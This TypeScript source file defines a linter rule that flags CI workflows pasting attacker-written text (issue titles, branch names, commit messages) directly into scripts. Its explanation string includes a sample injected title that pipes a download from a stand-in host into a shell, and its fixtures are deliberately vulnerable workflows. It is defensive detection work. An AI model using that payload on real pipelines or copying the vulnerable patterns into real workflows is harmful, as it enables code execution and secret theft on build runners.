import { type Expression, type Pipeline, type PipelineStep, variableOf } from '../../../model/pipeline.ts';
import { declaredAt } from '../../../model/place.ts';
import { held, violated } from '../../outcome.ts';
import { bad, defineRule, oneHeld } from '../../rule.ts';
import { foreignTriggers, isGuarded, privilegedTriggers } from './foreign-triggers.ts';

/** Texts of an event that its author writes freely (GitHub Security Lab: untrusted input). */
const FOREIGN =
  /\bgithub\.(?:head_ref\b|event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.(?:ref|label|repo\.default_branch))|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|pages\b.*\.page_name|commits\b.*\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|head_repository\.description)))|^github\.event$|\btoJSON\(\s*github(?:\.event(?:\.(?:issue|pull_request|comment|review|discussion|head_commit|commits|workflow_run))?)?\s*\)/i;

/** The same in other systems: macros of Azure Pipelines, Groovy strings of Jenkins, expressions of CircleCI. */
const FOREIGN_ELSEWHERE =
  /^(?:Build\.(?:SourceVersionMessage|SourceBranch(?:Name)?)|System\.PullRequest\.SourceBranch(?:Name)?|(?:env\.)?(?:CHANGE_(?:TITLE|BRANCH|AUTHOR\w*)|BRANCH_NAME|GIT_BRANCH)|pipeline\.git\.branch|DRONE_(?:COMMIT_MESSAGE|PULL_REQUEST_TITLE|SOURCE_BRANCH|COMMIT_BRANCH)|CI_COMMIT_(?:MESSAGE|PULL_REQUEST_TITLE|SOURCE_BRANCH))$/;

const workflow = <const T extends string>(event: string, run: T) =>
  `on: ${event}\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: ${run}\n` as const;

export const pastesForeignText = defineRule({
  id: 'build/safe-triggers/pastes-foreign-text',
  subject: 'pipeline',
  severity: 'high',
  title: 'Text that strangers write is pasted into a script',
  why: 'The expression is replaced before the shell reads the line, so a title like `"; curl evil.sh | sh #` is a command.',
  remedy: 'Hand the text over in a variable: `env: {TITLE: ${{ … }}}` on the step and `"$TITLE"` in the script.',
  references: [
    {
      title: 'GitHub Security Lab: untrusted input',
      url: 'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    },
    { title: 'CWE-94: code injection', url: 'https://cwe.mitre.org/data/definitions/94.html' },
  ],
  examples: {
    bad: [
      bad({ '.github/workflows/greet.yml': workflow('issues', 'echo "«${{ github.event.issue.title }}»"') }),
      bad({ 'azure-pipelines.yml': 'pr: [main]\nsteps:\n  - script: echo «$(Build.SourceVersionMessage)»\n' }),
      bad({ '.github/workflows/greet.yml': workflow('pull_request', "echo '«${{ github.head_ref }}»'") }),
      bad({
        '.github/workflows/greet.yml':
          'on: issue_comment\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/github-script@v8\n        with:\n          script: |\n            const text = `«${{ github.event.comment.body }}»`\n',
      }),
      bad({
        '.github/workflows/greet.yml':
          'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    env:\n      TITLE: ${{ github.event.issue.title }}\n    steps:\n      - run: echo "«${{ env.TITLE }}»"\n',
      }),
      bad({ '.github/workflows/greet.yml': workflow('issues', 'echo "«${{ toJSON(github.event.issue) }}»"') }),
      bad({ '.github/workflows/greet.yml': workflow('issues', `echo "«\${{ github.event['issue']['title'] }}»"`) }),
      bad({
        '.github/workflows/greet.yml':
          'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: azure/cli@v2\n        with:\n          inlineScript: az note "«${{ github.event.issue.body }}»"\n',
      }),
    ],
    good: [
      {
        '.github/workflows/greet.yml':
          'on: issues\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
      },
      { '.github/workflows/greet.yml': workflow('pull_request', 'echo ${{ github.event.pull_request.number }}') },
    ],
    silent: [{ '.github/workflows/greet.yml': workflow('workflow_dispatch', 'echo hello') }],
  },
  check: oneHeld(function* (pipeline) {
    const [foreign] = foreignTriggers(pipeline);
    const privileged = privilegedTriggers(pipeline).length > 0;
    for (const { job, step, expression } of pastes(pipeline)) {
      const origin = declaredAt(expression.place);
      const milder = !privileged || isGuarded(job, step);
      yield violated(
        origin,
        `${expression.text} is written by whoever raises the event and becomes part of a script`,
        milder ? { severity: 'medium' } : {},
      );
    }
    if (foreign) yield held(declaredAt(foreign.place));
  }),
});

type Paste = {
  readonly job: Pipeline['jobs'][number];
  readonly step: PipelineStep;
  readonly expression: Expression;
};

function* pastes(pipeline: Pipeline): Generator<Paste> {
  for (const job of pipeline.jobs) {
    for (const step of job.steps) {
      for (const expression of scriptExpressions(step)) {
        // a variable that is pasted, not read, is the text it holds
        const held = variableOf(expression, [step.env, job.env, pipeline.env])?.expressions ?? [];
        const pasted = [expression, ...held];
        const free = pasted
          .map(({ text }) => dotted(text))
          .some(
            (text) =>
              (FOREIGN.test(text) || FOREIGN_ELSEWHERE.test(text)) && !isHarmless(text) && !isNarrowed(pipeline, text),
          );
        if (free) yield { job, step, expression };
      }
    }
  }
}

/** `event['issue']` is `event.issue`. */
const dotted = (expression: string): string => expression.replace(/\[\s*'(\w+)'\s*\]/g, '.$1');

/** A comparison gives true or false, and a search an answer of that kind, whatever the text. */
const isHarmless = (expression: string): boolean =>
  /^(?:contains|startsWith|endsWith|hashFiles)\(/i.test(expression) ||
  (/[=!]=/.test(expression) && !/&&|\|\|/.test(expression));

/** `branches:` of workflow_run lets through the names it lists and no others. */
const isNarrowed = ({ triggers }: Pipeline, expression: string): boolean =>
  /workflow_run\.head_branch$/.test(expression) &&
  triggers.some(
    ({ event, branches }) =>
      event === 'workflow_run' && branches.length > 0 && !branches.some((name) => /[*?[]/.test(name)),
  );

/** Actions that run a text they are given, and the input it is in. */
const RUNNERS: { readonly [action: string]: RegExp } = {
  'actions/github-script': /^script$/,
  'azure/cli': /^inlineScript$/i,
  'azure/powershell': /^inlineScript$/i,
  'appleboy/ssh-action': /^script$/,
  'nick-fields/retry': /^command$/,
  'nick-invision/retry': /^command$/,
};

const scriptExpressions = (step: PipelineStep): readonly Expression[] => {
  const action = step.uses?.name.toLowerCase() ?? '';
  const input = Object.hasOwn(RUNNERS, action) ? RUNNERS[action] : undefined;
  const script = input && step.with.find(({ name }) => input.test(name));
  return [...(step.run?.expressions ?? []), ...(script?.value.expressions ?? [])];
};
